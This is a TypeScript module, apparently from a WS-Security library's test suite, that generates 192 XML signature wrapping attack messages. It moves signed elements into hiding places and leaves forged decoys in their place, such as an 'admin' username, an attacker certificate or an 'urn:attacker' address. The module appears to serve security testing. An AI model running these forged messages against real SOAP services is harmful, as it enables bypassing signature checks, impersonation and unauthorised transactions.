/**
 * Makes signature wrapping inputs (research/security.md §1.1): the signed element is moved to another place and a
 * decoy put where it stood. Plain text surgery, so that nothing of the product decides what an attacker can write.
 */
import { ns } from '#src/xml/index.js';

export const targets = ['Body', 'Timestamp', 'To', 'Action', 'UsernameToken', 'BinarySecurityToken'] as const;
export type TargetName = (typeof targets)[number];

export const places = [
  'header wrapper',
  'inside Security',
  'inside ds:Object',
  'inside KeyInfo',
  'foreign child of Body',
  'before Header',
  'after Body',
  'EncryptedData properties',
] as const;
export type Place = (typeof places)[number];

export const decoys = ['same id', 'no id', 'other id', 'id moved'] as const;
export type DecoyMode = (typeof decoys)[number];

interface TargetText {
  readonly element: RegExp;
  /** Makes the content of the decoy. */
  readonly forge: (element: string, other: string) => string;
}

const element = (name: string): RegExp => new RegExp(`<${name}[ >].*?</${name}>`, 's');
const content = (element: string, replacement: string): string =>
  element.replace(/^(<[^>]*>).*(<\/[^>]*>)$/s, `$1${replacement}$2`);

const texts: Readonly<Record<TargetName, TargetText>> = {
  Body: {
    element: element('soap:Body'),
    forge: (text) => content(text, '<o:order xmlns:o="urn:orders"><o:item>gold</o:item></o:order>'),
  },
  Timestamp: { element: element('wsu:Timestamp'), forge: (text) => text.replace(/12:05:00Z/, '23:05:00Z') },
  To: { element: element('wsa:To'), forge: (text) => content(text, 'urn:attacker') },
  Action: { element: element('wsa:Action'), forge: (text) => content(text, 'urn:transfer') },
  UsernameToken: {
    element: element('wsse:UsernameToken'),
    forge: (text) => content(text, '<wsse:Username>admin</wsse:Username>'),
  },
  BinarySecurityToken: {
    element: element('wsse:BinarySecurityToken'),
    forge: (text, other) => content(text, other),
  },
};

export interface Wrapping {
  readonly target: TargetName;
  readonly place: Place;
  readonly decoy: DecoyMode;
}

/** All 192. */
export const wrappings: readonly Wrapping[] = targets.flatMap((target) =>
  places.flatMap((place) => decoys.map((decoy) => ({ target, place, decoy }))),
);

const idAttribute = / wsu:Id="[^"]*"/;

/**
 * Wraps a signed message.
 *
 * @param attackerToken base64 of a certificate of the attacker, for the decoy of the token
 */
export function wrap(message: string, { target, place, decoy }: Wrapping, attackerToken: string): string {
  const text = texts[target];
  const original = text.element.exec(message)?.[0];
  if (original === undefined) throw new Error(`no ${target} in the message`);
  const forged = text.forge(original, attackerToken);
  const ids: Readonly<Record<DecoyMode, string>> = {
    'same id': forged,
    'no id': forged.replace(idAttribute, ''),
    'other id': forged.replace(idAttribute, ' wsu:Id="decoy"'),
    'id moved': forged,
  };
  const moved = decoy === 'id moved' ? original.replace(idAttribute, '') : original;
  // Decoy first: a moved Body may go into the Body that took its place.
  return put(
    message.replace(original, () => ids[decoy]),
    place,
    moved,
  );
}

/** Declares what a moved element may need; wherever it goes, it means what it meant. */
const declarations = `xmlns:wsu="${ns.wsu}" xmlns:wsse="${ns.wsse}" xmlns:wsa="${ns.wsa}" xmlns:soap="${ns.soap11}"`;
const wrapper = (inner: string): string =>
  `<evil:wrap xmlns:evil="urn:evil" ${declarations}>${inner}</evil:wrap>`;

function put(message: string, place: Place, moved: string): string {
  const before = (marker: string, inserted: string): string =>
    message.replace(marker, () => `${inserted}${marker}`);
  switch (place) {
    case 'header wrapper':
      return before('</soap:Header>', wrapper(moved));
    case 'inside Security':
      return before('</wsse:Security>', wrapper(moved));
    case 'inside ds:Object':
      return before('</ds:Signature>', `<ds:Object>${wrapper(moved)}</ds:Object>`);
    case 'inside KeyInfo':
      return before('</ds:KeyInfo>', wrapper(moved));
    case 'foreign child of Body':
      return before('</soap:Body>', wrapper(moved));
    case 'before Header':
      return before('<soap:Header>', wrapper(moved));
    case 'after Body':
      return before('</soap:Envelope>', wrapper(moved));
    case 'EncryptedData properties':
      return before(
        '</soap:Header>',
        `<xenc:EncryptedData xmlns:xenc="${ns.xenc}"><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue>` +
          `</xenc:CipherData><xenc:EncryptionProperties><xenc:EncryptionProperty>${wrapper(moved)}` +
          `</xenc:EncryptionProperty></xenc:EncryptionProperties></xenc:EncryptedData>`,
      );
  }
}
